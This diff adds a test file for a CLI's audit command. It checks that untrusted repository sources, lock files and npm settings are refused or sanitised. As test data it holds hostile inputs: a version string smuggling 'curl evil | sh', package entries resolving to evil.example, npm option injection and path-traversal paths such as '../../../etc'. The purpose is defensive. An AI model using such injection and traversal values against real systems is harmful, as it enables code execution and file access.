@@ -1,0 +1,315 @@
+/** What an audit takes from a commit, and what it refuses: the application, never the framework, and packages by their digests alone. */
+import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { dirname, join } from 'node:path';
+import { describe, expect, onTestFinished, test } from 'vitest';
+import { npmSurroundings } from '../../../../src/commands/audit/rebuild.ts';
+import { checkVersion, readSource } from '../../../../src/commands/audit/source.ts';
+import type { Omitted } from '../../../../src/commands/audit/tree.ts';
+import { created, FRAMEWORK, framework, type Packages, ROOT } from './applications.ts';
+import type { Files } from './git_server.ts';
+
+function folderOf(files: Files): string {
+  const folder = mkdtempSync(join(tmpdir(), 'audit-source-'));
+  onTestFinished(() => rmSync(folder, { recursive: true }));
+  for (const [path, content] of Object.entries(files)) {
+    mkdirSync(dirname(join(folder, path)), { recursive: true });
+    writeFileSync(join(folder, path), content as string | Buffer);
+  }
+  return folder;
+}
+
+function read(files: Files, { folder = '', omitted = [] as Omitted[], own = FRAMEWORK } = {}) {
+  return readSource({ folder: folderOf(files), files: 0, bytes: 0, omitted }, folder, own);
+}
+
+function codeOf(action: () => unknown): string {
+  try {
+    action();
+    return 'done';
+  } catch (error) {
+    return (error as { code: string }).code;
+  }
+}
+
+const withLock = (change: (packages: Packages) => void) => created('price', change);
+
+describe('an application in a repository of its own', () => {
+  test('gives its files, its settings and its packages; all else is of the auditor', () => {
+    const source = read(created());
+    expect(source).toMatchObject({
+      name: 'price',
+      appDir: 'src/apps/price',
+      isApart: true,
+      framework: FRAMEWORK.folder,
+      environment: { APP: 'price', NSM_REQUIRED: 'true' },
+      manifest: { endpoints: ['api.feed.example'] },
+    });
+    expect([...source.movePackages.keys()]).toEqual(['price']);
+    // What it has of the framework at the same place is the framework's.
+    expect([...source.inputs.packages.keys()].filter((path) => path.startsWith('src/'))).toEqual([]);
+  });
+
+  test('may be in a folder of its repository', () => {
+    const files = Object.fromEntries(
+      Object.entries(created()).map(([path, file]) => [`apps/a/${path}`, file]),
+    );
+    expect(read(files, { folder: 'apps/a' }).name).toBe('price');
+    for (const folder of [
+      '',
+      '..',
+      '/etc',
+      'apps/../apps/a',
+      'apps/a/',
+      './apps/a',
+      'apps/b',
+      '-x',
+      'a\u001b',
+    ]) {
+      expect(
+        codeOf(() => read(files, { folder })),
+        folder,
+      ).toBe('SOURCE_INVALID');
+    }
+  });
+
+  test('has no link or submodule among what an image or a contract is made of', () => {
+    const at = (path: string): Omitted[] => [{ path, kind: 'a link' }];
+    for (const path of ['lib', 'lib/passwd', 'server.env', 'move/price/sources/a.move']) {
+      expect(
+        codeOf(() => read(created(), { omitted: at(path) })),
+        path,
+      ).toBe('SOURCE_UNSAFE');
+    }
+    for (const path of ['test/fixture', '.github/a', 'node_modules']) {
+      expect(
+        codeOf(() => read(created(), { omitted: at(path) })),
+        path,
+      ).toBe('done');
+    }
+  });
+
+  test('is of the version of the framework that this program has', () => {
+    const source = { url: '', commit: '', folder: '', measurementsSha256: '' };
+    checkVersion({ ...source, frameworkVersion: FRAMEWORK.version }, FRAMEWORK);
+    const message = (frameworkVersion: string) => {
+      try {
+        checkVersion({ ...source, frameworkVersion }, FRAMEWORK);
+        return '';
+      } catch (error) {
+        return `${(error as { code: string }).code}: ${(error as Error).message}`;
+      }
+    };
+    expect(message('9.8.7-experimental.abc')).toMatch(
+      /^FRAMEWORK_VERSION: .* npm exec --package=sui-enclave-cli@9\.8\.7-experimental\.abc --package/,
+    );
+    // What a shell would run is not repeated as a command.
+    const hostile = message('1; curl evil | sh\u001b');
+    expect([hostile.includes('npm exec'), hostile.includes('\u001b')]).toEqual([false, false]);
+  });
+
+  const foreign = { version: FRAMEWORK.version, integrity: `sha512-${'Z'.repeat(86)}==` };
+  test.each<[string, Packages]>([
+    ['another digest', { 'node_modules/sui-enclave-server': foreign }],
+    ['a second one below a package', { 'node_modules/valibot/node_modules/sui-enclave-server': foreign }],
+    ['another library', { 'node_modules/sui-enclave': foreign }],
+  ])('has the framework that this program knows, not %s', (_name, change) => {
+    expect(codeOf(() => read(withLock((packages) => void Object.assign(packages, change))))).toBe(
+      'FRAMEWORK_UNKNOWN',
+    );
+  });
+
+  test('has a framework', () => {
+    const without = withLock((packages) => void delete packages['node_modules/sui-enclave-server']);
+    expect(codeOf(() => read(without))).toBe('FRAMEWORK_UNKNOWN');
+  });
+
+  test('is audited with the installed program, since a clone knows no package of the framework', () => {
+    expect(codeOf(() => read(created(), { own: { ...FRAMEWORK, packages: {} } }))).toBe('FRAMEWORK_UNKNOWN');
+  });
+
+  const sha = `sha512-${'A'.repeat(86)}==`;
+  const one = { version: '1.0.0', integrity: sha };
+  test.each<[string, string, object]>([
+    ['of git', 'node_modules/a', { ...one, resolved: 'git+ssh://git@code.example/a.git#abc' }],
+    ['of an address', 'node_modules/a', { ...one, resolved: 'https://evil.example/a.tgz' }],
+    ['of http', 'node_modules/a', { ...one, resolved: 'http://registry.example/a/-/a-1.0.0.tgz' }],
+    [
+      'of another package',
+      'node_modules/a',
+      { ...one, resolved: 'https://registry.example/b/-/b-1.0.0.tgz' },
+    ],
+    ['of a file', 'node_modules/a', { ...one, resolved: 'file:../a.tgz' }],
+    ['that is a link', 'node_modules/a', { link: true, resolved: '../..' }],
+    ['that is a link to the framework', 'node_modules/sui-enclave-server', { link: true, resolved: 'fork' }],
+    ['under another name', 'node_modules/a', { ...one, name: 'b' }],
+    ['in another package', 'node_modules/a', { ...one, inBundle: true }],
+    ['with others in it', 'node_modules/a', { ...one, bundleDependencies: ['b'] }],
+    ['without a digest', 'node_modules/a', { version: '1.0.0' }],
+    ['with SHA-1', 'node_modules/a', { version: '1.0.0', integrity: 'sha1-AAAAAAAAAAAAAAAAAAAAAAAAAAA=' }],
+    ['with a choice of digests', 'node_modules/a', { ...one, integrity: `${sha} sha1-AAAA` }],
+    ['with an address for a version', 'node_modules/a', { ...one, version: 'https://evil.example/a.tgz' }],
+    ['with a range', 'node_modules/a', { ...one, version: '^1.0.0' }],
+    ['with an option for a version', 'node_modules/a', { ...one, version: '--script-shell=sh' }],
+    ['out of the folder', 'node_modules/../../../etc', one],
+    ['out of the folder, further down', 'node_modules/a/node_modules/..', one],
+    ['at an absolute path', '/etc', one],
+    ['with an option for a name', 'node_modules/--globalconfig', one],
+    ['of a workspace', 'packages/a', { version: '1.0.0' }],
+    ['with a control character', 'node_modules/a\u001b', one],
+  ])('has no package %s, whether it is used or not', (_name, path, entry) => {
+    const files = withLock((packages) => {
+      packages[path] = { ...entry };
+    });
+    expect(codeOf(() => read(files))).toBe('LOCK_UNTRUSTED');
+  });
+
+  test('may name the registry, which is not asked, and may have packages of its own', () => {
+    const files = withLock((packages) => {
+      packages['node_modules/@a/b'] = { ...one, resolved: 'https://registry.example/@a/b/-/b-1.0.0.tgz' };
+      Object.assign(packages['']?.['dependencies'] ?? {}, { '@a/b': '1.0.0' });
+    });
+    const { inputs } = read(files);
+    expect(inputs.packages.get('src/apps/price/node_modules/@a/b')).toMatchObject({
+      name: '@a/b',
+      version: '1.0.0',
+    });
+  });
+
+  test.each([
+    '{',
+    '[]',
+    '{"lockfileVersion": 1, "dependencies": {}}',
+    '{"lockfileVersion": 3, "packages": {"": 1}}',
+  ])('has a lock file of npm: %s', (text) =>
+    expect(codeOf(() => read({ ...created(), 'package-lock.json': text }))).toBe('LOCK_UNTRUSTED'),
+  );
+
+  test('does not build with an invalid app.yaml, server.env or package.json', () => {
+    for (const [path, text] of [
+      ['app.yaml', 'name: price\nendpoints: ['],
+      ['app.yaml', 'endpoints: []\nsecrets: []'],
+      ['server.env', 'NOT A SETTING'],
+      ['app.yaml', `# ${'x'.repeat(1_000_000)}`],
+    ] as const) {
+      expect(
+        codeOf(() => read({ ...created(), [path]: text })),
+        text,
+      ).toBe('SOURCE_INVALID');
+    }
+  });
+});
+
+describe('an application in a clone of the framework', () => {
+  const at = { folder: 'src/apps/weather' };
+
+  test('is built with the auditor’s framework, of which the commit has every byte', () => {
+    const source = read(framework(), at);
+    expect(source).toMatchObject({
+      name: 'weather',
+      isApart: false,
+      appDir: 'src/apps/weather',
+      framework: FRAMEWORK.folder,
+    });
+    expect(source.inputs.needed.workspaces).toContain('src/apps/weather');
+    expect(source.inputs.packages.get('node_modules/axios')?.version).toBe(
+      JSON.parse(readFileSync(join(ROOT, 'package.json'), 'utf8')).dependencies.axios,
+    );
+    expect([...source.movePackages.keys()]).toContain('weather');
+  });
+
+  test.each([
+    ['src/server/key.ts', (text: string) => `${text}\n`],
+    ['enclave/kernel.cmdline', (text: string) => text.replace('reboot', 'Reboot')],
+    ['Containerfile', (text: string) => `${text}# more\n`],
+    [
+      'package-lock.json',
+      (text: string) =>
+        text.replace(/("node_modules\/express": \{[^}]*?sha512-)./, '$1_').replace('sha512-_', 'sha512-Z'),
+    ],
+  ])('of another state of the framework is for another state of this program: %s', (path, change) => {
+    const before = String(framework()[path]);
+    expect(change(before)).not.toBe(before);
+    const files = { ...framework(), [path]: change(before) };
+    expect(codeOf(() => read(files, at))).toBe('FRAMEWORK_VERSION');
+  });
+
+  test('of a framework with another file or one less is so too', () => {
+    expect(codeOf(() => read({ ...framework(), 'src/service/more.ts': '' }, at))).toBe('FRAMEWORK_VERSION');
+    const { 'src/library/errors.ts': _gone, ...rest } = framework();
+    expect(codeOf(() => read(rest, at))).toBe('FRAMEWORK_VERSION');
+  });
+
+  test('has links to the packages of the clone alone', () => {
+    const lock = JSON.parse(String(framework()['package-lock.json']));
+    lock.packages['node_modules/axios'] = { link: true, resolved: 'src/apps/weather' };
+    const files = { ...framework(), 'package-lock.json': JSON.stringify(lock) };
+    expect(codeOf(() => read(files, at))).toBe('LOCK_UNTRUSTED');
+  });
+
+  test('is in src/apps: laid out elsewhere, it would be in the place of a tool of the build', () => {
+    const app = Object.entries(framework()).filter(([path]) => path.startsWith('src/apps/weather/'));
+    for (const folder of ['node_modules/rolldown', 'src/commands', 'src', 'src/apps/weather/x', 'build']) {
+      const moved = app.map(([path, file]) => [path.replace('src/apps/weather', folder), file]);
+      const files = { ...framework(), ...Object.fromEntries(moved) };
+      expect(
+        codeOf(() => read(files, { folder })),
+        folder,
+      ).toBe('SOURCE_INVALID');
+    }
+  });
+
+  test.each([
+    'src/server/node_modules/express',
+    'src/library/node_modules/@noble/curves',
+    'node_modules/express/node_modules/qs',
+  ])('gives the framework no other package, by a place that comes first: %s', (path) => {
+    const lock = JSON.parse(String(framework()['package-lock.json']));
+    lock.packages[path] = { version: '1.0.0', integrity: `sha512-${'Z'.repeat(86)}==` };
+    const files = { ...framework(), 'package-lock.json': JSON.stringify(lock) };
+    expect(codeOf(() => read(files, at))).toBe('FRAMEWORK_VERSION');
+  });
+
+  test('may have packages of its own', () => {
+    const lock = JSON.parse(String(framework()['package-lock.json']));
+    const one = { version: '1.0.0', integrity: `sha512-${'Z'.repeat(86)}==` };
+    lock.packages['src/apps/weather'].dependencies['a'] = '1.0.0';
+    for (const path of ['node_modules/a', 'src/apps/weather/node_modules/axios']) lock.packages[path] = one;
+    const { inputs } = read({ ...framework(), 'package-lock.json': JSON.stringify(lock) }, at);
+    expect([...inputs.packages.keys()]).toEqual(
+      expect.arrayContaining(['node_modules/a', 'src/apps/weather/node_modules/axios']),
+    );
+  });
+
+  test('elsewhere needs a lock file', () => {
+    const { 'package-lock.json': _lock, ...rest } = created();
+    expect(codeOf(() => read(rest))).toBe('SOURCE_INVALID');
+  });
+});
+
+test('npm gets the auditor’s registry, nothing else of his settings, and no package from elsewhere', () => {
+  const work = mkdtempSync(join(tmpdir(), 'audit-npm-'));
+  onTestFinished(() => rmSync(work, { recursive: true }));
+  const env = {
+    PATH: process.env['PATH'],
+    HOME: work,
+    npm_config_registry: 'https://registry.example/',
+    NODE_EXTRA_CA_CERTS: join(work, 'authority.pem'),
+    NODE_OPTIONS: '--no-warnings',
+  };
+  writeFileSync(join(work, '.npmrc'), '//registry.example/:_authToken=word\ngit=/tmp/never\n');
+  const given = npmSurroundings(work, env);
+  expect(given.env).toMatchObject({
+    HOME: join(work, 'npm'),
+    npm_config_registry: 'https://registry.example/',
+    NODE_EXTRA_CA_CERTS: env.NODE_EXTRA_CA_CERTS,
+  });
+  expect(given.env).not.toHaveProperty('NODE_OPTIONS');
+  expect(JSON.stringify(given)).not.toContain('word');
+  expect(given.options).toEqual([
+    '--allow-git=none',
+    '--allow-remote=none',
+    '--allow-file=none',
+    '--allow-directory=none',
+  ]);
+});
